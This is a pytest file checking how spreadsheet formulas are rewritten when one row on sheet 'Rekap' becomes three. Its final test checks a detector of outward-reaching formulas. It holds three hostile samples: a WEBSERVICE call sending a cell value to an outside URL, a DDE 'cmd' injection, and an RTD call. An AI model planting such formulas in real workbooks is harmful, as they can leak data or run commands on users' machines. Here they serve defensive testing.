"""Formulas when row 8 of sheet Rekap becomes rows 8 to 10."""

import pytest

from reports.office import formulas
from reports.office.places import Shift

SHIFTS = {"Rekap": Shift({8: 3}), "Lain": Shift()}


def moved(formula: str, *, here: str = "Rekap", own=None) -> str:
    return formulas.moved(formula, here=here, shifts=SHIFTS, own=own)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("SUM(C8:C8)", "SUM(C8:C10)"),
        ("SUM(C7:C9)", "SUM(C7:C11)"),
        ("SUM($C$8:$C$8)", "SUM($C$8:$C$10)"),
        # One cell in a sum stands for all it becomes; elsewhere it is one cell.
        ("SUM(C8)", "SUM(C8:C10)"),
        ("SUM(C8, D20)", "SUM(C8:C10, D22)"),
        ("SUM(C8*2)", "SUM(C8*2)"),
        ("ROUND(C8,2)", "ROUND(C8,2)"),
        ("C9/C$9", "C11/C$11"),
        ("B2+B7", "B2+B7"),
        ("SUM(8:8)", "SUM(8:10)"),
        ("SUM(C:C)", "SUM(C:C)"),
        ("Rekap!C9&'Lain'!C9", "Rekap!C11&'Lain'!C9"),
        ('IF(C9>0,"C9 & Rekap!C9",LOG10(C9))', 'IF(C11>0,"C9 & Rekap!C9",LOG10(C11))'),
        ("Tabel1[[#Totals],[C9]]+C9", "Tabel1[[#Totals],[C9]]+C11"),
        ("1E9+1.5E9+C9", "1E9+1.5E9+C11"),
        ("TotalC9+C9x+_C9", "TotalC9+C9x+_C9"),
        ("#REF!+C9", "#REF!+C11"),
    ],
)
def test_cells_around(before, after):
    assert moved(before) == after


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("C8+D8", "C9+D9"),
        ("SUM(C8:E8)", "SUM(C9:E9)"),
        # The dollar means the whole block, and so a share or a running total.
        ("C8/SUM(C$8:C$8)", "C9/SUM(C$8:C$10)"),
        ("SUM(C$8:C8)", "SUM(C$8:C9)"),
        # What stands elsewhere is meant as it stands.
        ("C8/C9", "C9/C11"),
        ("C8*$B$2", "C9*$B$2"),
        ("Rekap!C8", "Rekap!C9"),
        ("Lain!C8", "Lain!C8"),
    ],
)
def test_second_copy(before, after):
    assert moved(before, own=(8, 1)) == after


@pytest.mark.parametrize(
    ("before", "after"), [("C8", "C8"), ("Rekap!C9", "Rekap!C11"), ("rekap!C9", "rekap!C11")]
)
def test_another_sheet(before, after):
    assert moved(before, here="Lain") == after


def test_shared_formula_in_another_cell():
    assert formulas.translated("A1+$A1+A$1+SUM(B2:C3)", rows=2, columns=1) == (
        "B3+$A3+B$1+SUM(C4:D5)"
    )


@pytest.mark.parametrize(
    "formula",
    ['WEBSERVICE("http://x/"&A1)', "cmd|'/C calc'!A0", 'rtd("a",,"b")'],
)
def test_what_reaches_outside(formula):
    assert formulas.reaches_outside(formula)
    assert not formulas.reaches_outside('SUM(A1:A2)&"a|b"')
